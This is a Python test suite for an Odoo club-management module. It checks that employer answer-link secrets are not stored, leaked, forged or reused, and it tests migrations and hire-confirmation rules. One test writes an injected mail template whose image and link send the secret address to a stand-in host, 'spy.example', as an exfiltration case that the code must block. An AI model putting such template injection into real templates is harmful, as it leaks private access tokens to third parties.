import importlib.util
import re
from pathlib import Path

from markupsafe import Markup

from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, TransactionCase, tagged
from odoo.tools import SQL, verify_hash_signed
from odoo.tools.sql import column_exists

from ...models.tools.club_guard_mixin import BY_LINK, HANDED, LINKS
from ...utils import clock
from ..answer_common import AnswerCase
from odoo.addons.mail.tests.common import MockEmail

FOLDER = Path(__file__).parents[2] / "migrations"
SECRET = "/clubs/reponse/"


@tagged("post_install", "-at_install")
class TestAnswerSecret(AnswerCase, MockEmail):
    """The address that answers is in the outgoing mail, and nowhere else."""

    def columns(self):
        """Yield ``(table, column)`` of all that the database keeps, whatever its type."""
        self.env.cr.execute(
            """SELECT c.table_name, c.column_name
                 FROM information_schema.columns c
                 JOIN information_schema.tables t USING (table_schema, table_name)
                WHERE table_schema = 'public' AND t.table_type = 'BASE TABLE'
                  AND c.data_type NOT IN ('integer', 'bigint', 'boolean', 'numeric',
                      'double precision', 'date', 'timestamp without time zone')"""
        )
        return self.env.cr.fetchall()

    def where(self, words):
        """Return the columns in which some words are read, in the whole database."""
        self.env.flush_all()
        found = set()
        for table, column in self.columns():
            self.env.cr.execute(
                SQL(
                    "SELECT 1 FROM %s WHERE %s::text LIKE %s LIMIT 1",
                    SQL.identifier(table),
                    SQL.identifier(column),
                    f"%{words}%",
                )
            )
            if self.env.cr.fetchone():
                found.add(f"{table}.{column}")
        return found

    def leave(self, mails):
        """Send mails as the queue does; return the secrets that left."""
        with self.mock_mail_gateway():
            mails.send()
        bodies = [mail["body"] for mail in self._mails]
        return [body.split(SECRET)[1].split('"')[0] for body in bodies]

    def test_no_column_keeps_a_secret(self):
        """Of a first message, a reminder, thanks, questions, a link handed over."""
        self.link._send(reminder=True)
        self.first._record_hire(kind="cdi")
        self.first.placement_ids.with_user(self.animateur).action_thank_employer()
        self.yanis.person_id.email = "yanis@example.com"
        self.env["club.followup.question"]._send(
            self.first.placement_ids.followup_ids[:1], "person"
        )
        links = self.env["club.answer.link"].search([])
        mails = self.mails_of(links)
        self.assertEqual(len(mails), 4)
        for mail in mails:
            self.assertTrue(mail.auto_delete)
            self.assertIn(f'{SECRET}-"', mail.body_html)
        before = self.env["club.answer.key"].search_count([])
        tokens = self.leave(mails)
        self.assertEqual(self.env["club.answer.key"].search_count([]), before + 4)
        dialog = self.link.with_user(self.animateur).action_hand_over()
        tokens.append(dialog["context"]["default_address"].split(SECRET)[1])
        self.assertEqual(len(set(tokens)), 5)
        Key = self.env["club.answer.key"]
        for token in tokens:
            self.assertIn(Key._find(token).link_id, links)
            self.assertEqual(self.where(token), set())
            secret = verify_hash_signed(self.env, "club-answer", token)[1]
            self.assertEqual(self.where(secret), set())

    def test_a_failed_mail_tells_nothing_and_leaves_with_another(self):
        mail = self.mails()
        first = self.token(mail)
        mail.write({"state": "exception"})
        mail.action_retry()
        (second,) = self.leave(mail)
        self.assertNotEqual(first, second)
        for token in (first, second):
            self.assertEqual(self.where(token), set())

    def test_each_message_has_its_own_secret_and_all_open(self):
        """A reminder kills nothing: what is in the employer's mailbox works."""
        self.link._send(reminder=True)
        tokens = set(self.leave(self.mails()))
        self.assertEqual(len(tokens), 2)
        for token in tokens:
            key = self.env["club.answer.key"]._find(token)
            self.assertEqual((key.link_id, key.way), (self.link, BY_LINK))

    def test_a_template_sends_the_secret_to_nobody_else(self):
        """Who edits templates reads no mail: no copy, no other place for the address."""
        template = self.env.ref("clubs_ambition.mail_template_candidacy_link")
        spy = self.env["res.partner"].create({"name": "Spy", "email": "spy@x.com"})
        server = self.env["ir.mail_server"].create(
            {"name": "Mine", "smtp_host": "x", "from_filter": "x.com"}
        )
        template.write(
            {
                "email_cc": "spy@x.com",
                "partner_to": str(spy.id),
                "mail_server_id": server.id,
                "body_html": """<div><a t-att-href="ctx.get('club_address')">x</a>
                    <img t-attf-src="https://spy.example/?{{ ctx.get('club_address') }}"/>
                    <a t-attf-href="https://spy.example/?{{ ctx.get('club_address') }}">
                        x</a></div>""",
            }
        )
        self.link._send(reminder=True)
        mail = self.mails().sorted("id")[-1]
        self.assertFalse(mail.email_cc or mail.recipient_ids or mail.mail_server_id)
        body = self.leaving(mail)
        for address in re.findall(r"https?://[^\s\"<>]+", body):
            if len(address.split(SECRET)[-1]) > 5:
                self.assertTrue(address.startswith(self.link.get_base_url()), address)

    def test_no_caller_has_a_secret_put_in_a_mail(self):
        """A template is sent by RPC, to whom its caller likes: without a secret."""
        template = self.env["mail.template"].create(
            {
                "name": "Mine",
                "model_id": self.env["ir.model"]._get("club.answer.link").id,
                "body_html": """<a t-att-href="ctx.get('club_address')">x</a>""",
            }
        )
        before = self.env["mail.mail"].search([])
        for user in (self.animateur, self.manager):
            mine = template.with_user(user)
            values = {"email_to": "me@x.com", "club_link_id": self.link.id}
            context = {
                "club_address": f"https://x{SECRET}-",
                "club_link": True,
                "default_club_link_id": self.link.id,
            }
            mine.with_context(**context).send_mail(self.link.id, email_values=values)
        made = self.env["mail.mail"].search([]) - before
        self.assertEqual(len(made), 2)
        self.assertFalse(made.club_link_id)
        for mail in made:
            mail.write({"club_link_id": self.link.id})
            self.assertFalse(mail.club_link_id)
            self.assertNotIn("reponse/A", self.leaving(mail))

    def test_a_link_leaves_by_no_mailbox_of_who_wrote(self):
        mine, agency = self.env["ir.mail_server"].create(
            [
                {
                    "name": name,
                    "smtp_host": "x",
                    "from_filter": self.animateur.email,
                    "owner_user_id": owner,
                }
                for name, owner in (("Mine", self.animateur.id), ("Agency", False))
            ]
        )
        mail = self.mails()
        self.assertEqual(mail._filter_mail_mail_servers(mine | agency), agency)

    def test_nobody_writes_to_oneself(self):
        """The address of a user is no employer's: who writes would answer."""
        with self.assertRaisesRegex(UserError, "the address of a user"):
            self.send(self.first, email=self.animateur.email.upper())
        self.first._record_hire(kind="cdi")
        line = self.first.placement_ids.followup_ids[:1]
        self.employer.email = self.animateur.email
        self.env["club.followup.question"]._send(line, "employer")
        self.assertFalse(line.link_ids)

    def test_a_sent_mail_goes_away(self):
        mail = self.mails()
        message = mail.mail_message_id
        with self.mock_mail_gateway(mail_unlink_sent=True):
            mail.send()
        self.assertFalse(mail.exists() or message.exists())

    def test_the_thread_says_that_it_left(self):
        for candidacy in self.candidacies:
            bodies = "".join(candidacy.message_ids.mapped("body"))
            self.assertIn("Sent to Boulangerie", bodies)

    def test_a_reply_that_quotes_the_address_tells_nothing(self):
        token = self.token(self.mails())
        quotes = (
            f"<p>https://clubs.example.org{SECRET}{token}</p>",
            f"<a href='https://safe.example.com/?u=x%2Fclubs%2Freponse%2F{token}'>x</a>",
        )
        for quote in quotes:
            message = self.first.message_post(body=Markup(quote))
            self.assertNotIn(token, message.body)
            message.write({"body": quote})
            self.assertNotIn(token, message.body)

    def test_who_coaches_reads_no_address(self):
        """By RPC, as each role that reads links: no field, no message, no template."""
        token = self.token(self.mails())
        for user in (self.animateur, self.manager):
            env = self.env(user=user)
            for name in env["club.answer.link"].fields_get():
                self.assertNotIn(token, str(self.link.with_user(user).read([name])))
            messages = env["mail.message"].search([("model", "=", "club.answer.link")])
            self.assertNotIn(token, str(messages.read(["body", "preview"])))
            for model in ("mail.mail", "club.answer.key"):
                with self.assertRaises(AccessError):
                    env[model].search([])

    def migrate(self, version, script, before):
        path = FOLDER / version / script
        spec = importlib.util.spec_from_file_location("migration", path)
        migration = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(migration)
        migration.migrate(self.env.cr, before)
        self.env.invalidate_all()

    def test_links_of_19_0_1_3_go_on_working(self):
        """A link of that version opens; its messages tell it no more."""
        cr = self.env.cr
        self.env.flush_all()
        mail = self.mails()
        token = self.token(mail)
        mail.mail_message_id.flush_recordset()
        cr.execute(
            "UPDATE mail_message SET body = %s WHERE id = %s",
            [f"<a href='http://x{SECRET}{token}'>x</a>", mail.mail_message_id.id],
        )
        cr.execute("UPDATE mail_mail SET auto_delete = FALSE WHERE id = %s", [mail.id])
        cr.execute("ALTER TABLE club_answer_link ADD nonce varchar")
        cr.execute("UPDATE club_answer_link SET nonce = 's' || id")
        cr.execute("ALTER TABLE club_answer_key DROP COLUMN way")
        template = self.env.ref("clubs_ambition.mail_template_candidacy_link")
        cr.execute(
            "UPDATE mail_template SET auto_delete = FALSE, body_html = "
            "jsonb_build_object('en_US', '<a t-att-href=\"object.url\">x</a>') "
            "WHERE id = %s",
            [template.id],
        )
        self.migrate("19.0.1.4.0", "post-answer-secret.py", "19.0.1.3.0")
        self.forget_answers()
        self.migrate("19.0.1.7.0", "pre-answers.py", "19.0.1.3.0")
        self.assertNotIn(token, mail.body)
        self.assertTrue(mail.auto_delete and template.auto_delete)
        self.assertIn("club_address", template.body_html)
        Key = self.env["club.answer.key"]
        old = Key.search([("digest", "=", Key._digest(f"s{self.link.id}"))])
        self.assertEqual((old.link_id, old.way), (self.link, HANDED))
        self.assertFalse(column_exists(cr, "club_answer_link", "nonce"))

    def forget_answers(self):
        """Be the database of a version that kept no level."""
        for table, column in (
            ("club_candidacy", "employer_via"),
            ("club_candidacy", "answer_via"),
        ):
            self.env.cr.execute(
                SQL(
                    "ALTER TABLE %s DROP COLUMN %s",
                    SQL.identifier(table),
                    SQL.identifier(column),
                )
            )

    def test_mails_that_waited_get_a_new_secret(self):
        """The version before wrote it in the queue: it goes, and the mail leaves."""
        mail = self.mails()
        token = self.page_of(self.link).split("/")[-1]
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE mail_mail SET club_link_id = NULL, body_html = %s WHERE id = %s",
            [f'<a href="https://x{SECRET}{token}">x</a>', mail.id],
        )
        self.migrate("19.0.1.7.0", "post-links.py", "19.0.1.6.0")
        self.assertEqual(self.where(token), set())
        self.assertEqual(mail.club_link_id, self.link)
        (new,) = self.leave(mail)
        self.assertNotEqual(new, token)
        for one in (new, token):
            self.assertEqual(self.env["club.answer.key"]._find(one).link_id, self.link)

    def test_answers_of_the_version_before_have_the_level_that_is_proved(self):
        """By links that a mail alone told; by those of before; told; and none."""
        self.first._record_hire(kind="cdi")
        line, other = self.first.placement_ids.followup_ids[:2]
        self.env["club.followup.question"]._send(line, "employer")
        for one in (line, other):
            one._record_voice("employer", "in_post", BY_LINK)
        self.second._unguarded().write({"employer_answer": "meet"})
        third = self.make_candidacy(self.make_participant("Zoé", "active"))
        third.write({"state": "refused", "refusal_reason_id": self.reason.id})
        (self.link | line.link_ids).answered_on = "2026-11-01 10:00:00"
        self.first._unguarded().employer_answer = "hired"
        for link in self.link | line.link_ids:
            link._new_address()
        self.env.flush_all()
        for proved in (True, False):
            with self.subTest(proved=proved), self.env.cr.savepoint() as savepoint:
                self.env.cr.execute("ALTER TABLE club_answer_key DROP COLUMN way")
                self.forget_answers()
                if not proved:
                    self.env.cr.execute("UPDATE club_answer_key SET create_uid = NULL")
                self.env.invalidate_all()
                self.migrate("19.0.1.7.0", "pre-answers.py", "19.0.1.6.0")
                level = BY_LINK if proved else HANDED
                self.assertEqual(self.first.answer_via, level)
                self.assertEqual(self.second.answer_via, level)
                self.assertEqual(
                    (third.employer_via, third.answer_via), (False, "told")
                )
                self.assertEqual(line.employer_via, level)
                self.assertEqual(other.employer_via, HANDED, "No link was answered.")
                savepoint.rollback()
            self.env.invalidate_all()


@tagged("post_install", "-at_install")
class TestToldByLinkAlone(AnswerCase):
    """How an answer came is written by the link's route: no role can say it."""

    def setUp(self):
        super().setUp()
        self.first._record_hire(kind="cdi")
        self.line = self.first.placement_ids.followup_ids[:1]

    def facts(self):
        """Yield ``(model, field)`` that tell how an answer came, from the registry."""
        for model, Model in self.env.registry.items():
            if not model.startswith("club.") or Model._abstract:
                continue
            for name, field in Model._fields.items():
                choice = field.type == "selection" and field.store
                for way in LINKS if choice and model != "club.answer.key" else ():
                    if way in (field.get_values(self.env) or []):
                        yield model, name, way
        yield "club.candidacy", "employer_answer", "meet"
        yield "club.candidacy", "answered_on", "2026-01-05"
        for name in ("answered_on", "revoked_on", "email", "reminder_count"):
            yield "club.answer.link", name, "2026-01-05"

    def of_model(self, model):
        records = self.second, self.link, self.line
        return next(one for one in records if one._name == model)

    def test_no_role_writes_how_an_answer_came(self):
        facts = list(self.facts())
        self.assertGreaterEqual(len(facts), 14)
        for user in (self.animateur, self.manager, self.referent):
            for model, name, value in facts:
                record = self.of_model(model)
                with self.subTest(f"{user.login} {model}.{name}"):
                    before = record[name]
                    with self.assertRaises(UserError):
                        record.with_user(user).write({name: value})
                    record.invalidate_recordset()
                    self.assertEqual(record[name], before)

    def test_no_role_creates_it_nor_gives_it_by_default(self):
        vals = {"participant_id": self.lina.id, "partner_id": self.other_employer.id}
        for user in (self.animateur, self.manager):
            for extra in ({"employer_answer": "hired"}, {"answered_on": "2026-01-05"}):
                Candidacy = self.env["club.candidacy"].with_user(user)
                with self.assertRaises(UserError):
                    Candidacy.create({**vals, **extra})
                context = {f"default_{name}": value for name, value in extra.items()}
                with self.env.cr.savepoint() as savepoint:
                    made = Candidacy.with_context(**context).create(vals)
                    self.assertFalse(made.employer_answer or made.answered_on)
                    savepoint.rollback()
                self.env.invalidate_all()

    def test_an_import_says_no_link(self):
        for user in (self.animateur, self.manager):
            for model, rows in {
                "club.followup": [["id", "employer_via"], [".", BY_LINK]],
                "club.candidacy": [["id", "employer_answer"], [".", "hired"]],
            }.items():
                record = self.of_model(model)
                names, line = rows
                line = [record.export_data(["id"])["datas"][0][0], line[1]]
                result = self.env[model].with_user(user).load(names, [line])
                self.assertFalse(result["ids"], model)
                record.invalidate_recordset()
                self.assertFalse(record[names[1]])

    def test_a_default_of_the_context_says_no_link(self):
        self.line.sudo().unlink()
        for user in (self.animateur, self.manager):
            Followup = self.env["club.followup"].with_user(user)
            Followup = Followup.with_context(default_employer_via=BY_LINK)
            vals = {
                "placement_id": self.first.placement_ids.id,
                "milestone": "day_8",
            }
            with self.assertRaises(UserError):
                Followup.create({**vals, "person_answer": "in_post"})
            with self.env.cr.savepoint() as savepoint:
                told = Followup.create({**vals, "employer_answer": "in_post"})
                self.assertEqual(told.employer_via, "phone")
                savepoint.rollback()
            self.env.invalidate_all()

    def test_what_the_animateur_notes_was_told_to_her(self):
        line = self.line.with_user(self.animateur)
        line.write({"employer_answer": "in_post"})
        self.assertEqual(line.employer_via, "phone")
        line.write({"employer_via": "meeting"})
        line.write({"source": "employer"})
        self.assertNotEqual(line.employer_via, BY_LINK)

    def test_an_answer_by_link_is_not_touched_up(self):
        for way in LINKS:
            self.line._record_voice("employer", "in_post", way)
            line = self.line.with_user(self.animateur)
            for vals in (
                {"employer_via": "phone"},
                {"employer_answered_on": "2026-01-05"},
            ):
                with self.assertRaisesRegex(UserError, "came by link"):
                    line.write(vals)
            line.write({"employer_answer": "not_in_work"})
            self.assertEqual(line.employer_via, "phone")

    def test_no_other_answer_and_no_other_level_is_lent_a_link(self):
        """What came by link is that answer, by that way: it covers no other."""
        for way in LINKS:
            for answer in ("in_post", "not_in_work"):
                for said in LINKS:
                    if (way, "in_post") == (said, answer):
                        continue
                    self.line._record_voice("employer", "in_post", way)
                    vals = {"employer_answer": answer, "employer_via": said}
                    with (
                        self.subTest(way=way, answer=answer, said=said),
                        self.assertRaises(UserError),
                        self.env.cr.savepoint(),
                    ):
                        self.line.with_user(self.animateur).write(vals)
                    self.line.invalidate_recordset()
                    self.assertEqual(self.line.employer_via, way)


@tagged("post_install", "-at_install")
class TestHireToConfirm(AnswerCase, HttpCase):
    """A hire told by link is confirmed by the animateur, or set aside."""

    def setUp(self):
        super().setUp()
        self.path = self.page_of(self.link)
        self.press("hired")

    def press(self, action, **form):
        self.env.flush_all()
        form |= {"action": action, "candidacy": self.first.id}
        answer = self.url_open(self.path, data=form)
        self.env.invalidate_all()
        return answer

    def today(self):
        board = self.env["club.club"].with_user(self.animateur)
        return self.club.with_env(board.env)._today_list()

    def test_it_tops_the_list_of_the_day(self):
        self.second.sudo().sent_on = "2026-01-05"
        lines = self.today()
        self.assertEqual((lines[0]["kind"], lines[0]["id"]), ("hire", self.first.id))
        self.assertNotIn(
            ("chase", self.first.id), [(x["kind"], x["id"]) for x in lines]
        )
        self.assertEqual(self.first.step_level, "late")

    def test_confirmed_with_its_contract_and_first_day(self):
        mine = self.first.with_user(self.animateur)
        # The first answer is of another day than the hire.
        self.first._unguarded().answered_on = "2026-01-05"
        action = mine.action_confirm_hire()
        dialog = (
            self.env[action["res_model"]]
            .with_user(self.animateur)
            .with_context(**action["context"])
            .create({"kind": "cdi"})
        )
        self.assertEqual(dialog.date_start, clock.today(self.club))
        dialog.action_confirm()
        self.assertEqual((self.first.state, self.yanis.state), ("hired", "exited"))
        self.assertFalse(self.first.activity_ids)
        self.assertNotIn("hire", [line["kind"] for line in self.today()])
        # Cancelled, what the employer said stands: to confirm, or to set aside.
        mine.action_cancel_hire()
        self.assertEqual(mine.employer_answer, "hired")
        self.assertTrue(mine.hire_to_confirm)
        mine.action_deny_hire()
        self.assertFalse(mine.hire_to_confirm)

    def test_set_aside_and_told_again(self):
        mine = self.first.with_user(self.animateur)
        mine.action_deny_hire()
        self.assertFalse(self.first.hire_to_confirm or self.first.activity_ids)
        self.assertIn("not a hire", self.first.message_ids[0].body)
        with self.assertRaisesRegex(UserError, "no hire to confirm"):
            mine.action_deny_hire()
        self.press("hired")
        self.assertTrue(self.first.hire_to_confirm)

    def test_who_was_refused_may_be_hired_after_all(self):
        self.first.write({"state": "refused", "refusal_reason_id": self.reason.id})
        self.assertTrue(self.first.hire_to_confirm)
        dialog = self.env["club.candidacy.hire"].with_user(self.animateur)
        dialog.create({"candidacy_id": self.first.id, "kind": "cdi"}).action_confirm()
        self.assertEqual(self.first.state, "hired")

    def test_reading_writes_nothing(self):
        """A mail filter opens every address: not a row of the database changes."""
        self.env.flush_all()
        count = "SELECT sum(n_tup_ins + n_tup_upd + n_tup_del) FROM pg_stat_xact_user_tables"
        self.env.cr.execute(count)
        before = self.env.cr.fetchone()
        self.assertEqual(self.url_open(self.path).status_code, 200)
        self.env.flush_all()
        self.env.cr.execute(count)
        self.assertEqual(self.env.cr.fetchone(), before)


@tagged("post_install", "-at_install")
class TestStop(AnswerCase):
    """“Do not contact me”: undone on the employer's word, written down."""

    def setUp(self):
        super().setUp()
        self.employer.club_network_status = "stop"
        self.mine = self.employer.with_user(self.animateur)

    def test_no_road_but_the_dialog_undoes_it(self):
        for user in (self.animateur, self.manager):
            mine = self.employer.with_user(user)
            for value in ("contacted", "partner", False):
                with self.assertRaisesRegex(UserError, "contacted again"):
                    mine.write({"club_network_status": value})
            names = ["id", "club_network_status"]
            xmlid = self.employer.export_data(["id"])["datas"][0][0]
            lines = [[xmlid, "Contacted"]]
            self.assertFalse(mine.load(names, lines)["ids"])
            forged = mine.with_context(club_guard=True)
            with self.assertRaises(UserError):
                forged.write({"club_network_status": "prospect"})
        self.assertEqual(self.employer.club_network_status, "stop")

    def test_the_word_of_the_employer_is_required_and_kept(self):
        action = self.mine.action_lift_club_stop()
        Lift = self.env[action["res_model"]].with_user(self.animateur)
        Lift = Lift.with_context(**action["context"])
        with self.assertRaises(UserError):
            Lift.create({"words": "  "}).action_confirm()
        Lift.create({"words": "Ms Roy, on the phone"}).action_confirm()
        self.assertEqual(self.employer.club_network_status, "contacted")
        message = self.employer.message_ids[0]
        self.assertIn("Ms Roy, on the phone", message.body)
        self.assertEqual(message.author_id, self.animateur.partner_id)

    def test_other_facts_of_the_employer_are_written_as_before(self):
        self.mine.write({"phone": "0199001122", "club_network_status": "stop"})
        self.assertEqual(self.employer.club_network_status, "stop")


@tagged("post_install", "-at_install")
class TestLinkFieldsDeclared(TransactionCase):
    def test_every_way_of_answering_is_guarded(self):
        for model, Model in self.env.registry.items():
            if not model.startswith("club.") or Model._abstract:
                continue
            if model == "club.answer.key":
                continue  # nobody's: its secrets are made by the code
            for name, field in Model._fields.items():
                if field.type != "selection" or not field.store or field.compute:
                    continue
                if BY_LINK in (field.get_values(self.env) or []):
                    self.assertIn(name, getattr(Model, "_link_fields", ()), model)
